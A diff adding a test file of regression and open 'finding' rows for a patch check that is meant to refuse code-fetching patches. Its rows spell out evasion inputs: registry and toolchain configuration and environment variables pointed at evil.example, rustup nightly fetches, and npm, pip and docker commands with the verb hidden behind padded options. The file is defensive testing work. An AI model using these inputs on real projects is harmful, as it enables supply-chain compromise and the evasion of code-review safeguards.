@@ -1,0 +1,87 @@
+import { describe, it } from 'vitest';
+import { closedRows, type FindingRow, describeFindings, expectAccepted } from '../support/patches.js';
+
+/**
+ * Our own review of the patch check after session 43 (rows written in session 44): patches the check accepted
+ * although an allowed call (`pnpm run`, `cargo build`) would fetch code because of what else the patch changes, or a
+ * command string hides its fetching verb past the options the reading skipped. Each row asserts the refusal; an open
+ * one is `it.fails` while the check accepts it.
+ */
+const PY = (call: string) => `import subprocess\nsubprocess.run(${call})`;
+const SYSTEM = (command: string) => `import os\nos.system('${command}')`;
+const CONFIGURED = (path: string): FindingRow => [path, 'x = 1'];
+
+// R1 (high): package-manager configuration beside an allowed `pnpm run`: pnpm's verify-deps-before-run installs, from
+// the registry the configuration names. Refused already, kept as regression rows:
+const REFUSED_BEFORE: FindingRow[] = ['.npmrc', 'packages/app/.npmrc', '.yarnrc', '.yarnrc.yml', '.pnpmfile.cjs', 'pnpm-workspace.yaml', 'bunfig.toml', 'pip.conf', '.cargo/config', '.cargo/config.toml', 'package.json', 'rust-toolchain.toml'].map(CONFIGURED);
+// Open: the files whose extension passed as source or as a test fixture, and the same configuration written by the
+// code the patch adds, for the next step to read.
+const MANAGER_CONFIGURATION: FindingRow[] = [
+  CONFIGURED('.pnpmfile.mjs'),
+  CONFIGURED('tests/.pnpmfile.mjs'),
+  CONFIGURED('tests/fixtures/app/uv.toml'),
+  CONFIGURED('tests/fixtures/app/poetry.toml'),
+  CONFIGURED('tests/fixtures/app/pixi.toml'),
+  ['src/check.py', "open('.npmrc', 'w').write('registry=https://evil.example/')"],
+  ['src/check.js', "fs.writeFileSync('pnpm-workspace.yaml', 'verifyDepsBeforeRun: install')"],
+  ['src/check.py', "Path('tests/.yarnrc.yml').write_text('npmRegistryServer: https://evil.example/')"],
+];
+
+// R2 (high): a toolchain fetched by rustup behind an allowed `cargo build`: a `+toolchain` argument, a toolchain file
+// where a crate is built, rustup itself.
+const TOOLCHAIN_FETCHES: FindingRow[] = [
+  CONFIGURED('tests/rust-toolchain.toml'),
+  CONFIGURED('tests/fixtures/crate/rust-toolchain.toml'),
+  ['src/check.py', SYSTEM('cargo +nightly build')],
+  ['src/check.py', SYSTEM('cargo -q +nightly-2020-01-01 test')],
+  ['src/check.py', PY("'cargo +nightly build', shell=True")],
+  ['src/check.py', SYSTEM('rustup toolchain install nightly')],
+  ['src/check.py', SYSTEM('rustup run nightly cargo build')],
+  ['src/check.py', PY("['rustup', 'run', 'nightly', 'cargo', 'build']")],
+  ['src/check.rs', 'Command::new("rustup").args(["default", "nightly"]).status()?;'],
+  ['src/check.py', "open('rust-toolchain.toml', 'w').write('[toolchain]')"],
+];
+
+// R3 (high): a command string's options before its verb were skipped up to three: a fourth (or a quoted value) hid it.
+const OPTIONS_BEFORE_THE_VERB: FindingRow[] = [
+  ['src/check.py', SYSTEM('npm --a --b --c --d install x')],
+  ['src/check.py', SYSTEM('npm --prefix "a b" install x')],
+  ['src/check.py', PY("'npm --a --b --c --d install x', shell=True")],
+  ['src/check.py', PY("'pip -v -v -v -v install x', shell=True")],
+  ['src/check.js', 'execSync(`npm --a --b --c --d install ${x}`)'],
+  ['src/check.js', 'execSync(`npm --a --b --c --d exec evil`)'],
+  ['src/check.js', "execSync('docker --a --b --c --d run evil/img')"],
+];
+
+// R4 (high): the same configuration set in the environment the next allowed call inherits.
+const MANAGER_ENVIRONMENT: FindingRow[] = [
+  ['src/check.py', "import os\nos.environ['npm_config_registry'] = 'https://evil.example/'"],
+  ['src/check.py', "import os\nos.environ.update({'npm_config_verify_deps_before_run': 'install'})"],
+  ['src/check.py', "import os\nos.environ['RUSTUP_DIST_SERVER'] = 'https://evil.example'"],
+  ['src/check.py', "import os\nos.environ['PIP_INDEX_URL'] = 'https://evil.example/simple'"],
+  ['src/check.js', "process.env.npm_config_registry = 'https://evil.example/';"],
+  ['src/check.js', "process.env['YARN_NPM_REGISTRY_SERVER'] = 'https://evil.example/';"],
+  ['src/check.rs', 'std::env::set_var("RUSTUP_TOOLCHAIN", "nightly");'],
+  ['src/check.go', 'os.Setenv("GOPROXY", "https://evil.example")'],
+];
+
+
+describeFindings('review-43', [
+  ['R1', [...closedRows(REFUSED_BEFORE), ...MANAGER_CONFIGURATION]],
+  ['R2', TOOLCHAIN_FETCHES],
+  ['R3', OPTIONS_BEFORE_THE_VERB],
+  ['R4', MANAGER_ENVIRONMENT],
+]);
+
+describe('review-43 controls', () => {
+  it.each([
+    ['src/check.py', PY("['pnpm', 'run', 'build']")],
+    ['src/check.py', SYSTEM('npm test')],
+    ['src/check.py', SYSTEM('npm --silent test')],
+    ['src/check.py', SYSTEM('cargo build')],
+    ['src/check.py', SYSTEM('pip --version')],
+    ['src/check.js', "const registry = process.env.npm_config_user_agent;"],
+    ['src/check.rs', 'let dir = env!("CARGO_MANIFEST_DIR");'],
+    ['tests/fixtures/app/config.toml', 'x = 1'],
+  ] as const)('accepts, in %s: %s', (path, text) => expectAccepted(path, text));
+});
